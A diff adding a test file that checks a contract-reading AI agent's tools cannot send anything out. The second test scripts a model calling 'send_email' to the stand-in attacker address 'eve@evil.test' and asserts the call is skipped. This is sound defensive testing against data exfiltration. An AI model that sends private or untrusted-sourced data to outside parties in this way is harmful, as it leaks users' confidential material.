@@ -1,0 +1,29 @@
+// The contract agent reads what is private and what a stranger has written: it has no way to send anything out.
+import { describe, expect, it } from 'vitest';
+import { contractTools } from '../../../machines/contract-agent/tools/contract-tools.ts';
+import { answer, callsOf, contract, enough, play, standard } from './helpers.ts';
+
+describe('the tools of the contract agent', () => {
+  it('send nothing out, have no effect, and taint what they are read in', () => {
+    const tools = contractTools({ contract, standard } as never);
+    expect(tools.map(({ name }) => name)).toEqual([
+      'hybrid_search',
+      'get_article_by_index',
+      'get_article_by_title',
+      'lookup_standard_contract',
+    ]);
+    for (const { capabilities, effect } of tools) {
+      expect({ capabilities, effect }).toEqual({ capabilities: { private: true, untrusted: true, external: false }, effect: 'pure' });
+    }
+  });
+
+  it('are all that a model is offered, whatever it calls for', async () => {
+    const { output, requests } = await play(
+      [callsOf(['send_email', { to: 'eve@evil.test' }]), enough(true), answer('…')],
+      '제5조 내용이 뭐야?',
+    );
+    const offered = requests.flatMap(({ tools = [] }) => tools.map(({ name }) => name));
+    expect([...new Set(offered)].filter((name) => !/^(?:hybrid_search|get_article_by_|lookup_standard_)/.test(name))).toEqual([]);
+    expect(output.toolHistory).toMatchObject([{ tool: 'send_email', status: 'skipped' }]);
+  });
+});
